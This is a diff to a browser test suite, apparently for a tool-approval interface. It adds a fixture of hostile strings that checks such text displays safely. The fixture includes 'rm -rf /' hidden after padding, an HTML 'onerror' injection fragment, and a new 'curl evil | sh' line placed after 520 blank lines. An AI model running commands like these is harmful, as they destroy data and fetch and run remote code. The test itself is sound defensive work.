@@ -427,6 +427,7 @@ browserTest("an approver elsewhere and the page both may decide", async (browser
   assertEquals(await answerOf(ask(server, { toolName: "theirs" })), "approval_rejected: theirs");
   await page.locator("#settled").getByText("Denied").waitFor();
   const ours = ask(server);
+  await page.locator("#pending button").click(); // what was decided elsewhere stays in view
   await untilReady(page);
   await page.keyboard.press("y");
   assertEquals(await answerOf(ours), "allowed {}");
@@ -540,6 +541,7 @@ const HOSTILE = {
   zalgo: `z${"\u0301".repeat(300)}`,
   controls: "\u0000\u001b[2J\u0007\r\u0085\u2028",
   padded: `ls${" ".repeat(3000)}; rm -rf /${"\n".repeat(400)}end`,
+  blank: `#!/bin/sh\n${" \t\n".repeat(520)}curl evil | sh`,
   word: "w".repeat(20_000),
   long: "0123456789".repeat(100_000),
   "": JSON.parse('{"__proto__":{"constructor":1},"emoji":"👩‍💻"}'),
@@ -580,6 +582,7 @@ browserTest("hostile texts are shown as texts, all of them", async (browser) => 
       "U+2028",
       "space ×3\u202f000",
       "U+000A ×400",
+      "520 blank lines",
       "U+200D",
       "<img src=x onerror=",
       "</dt><b>key</b>",
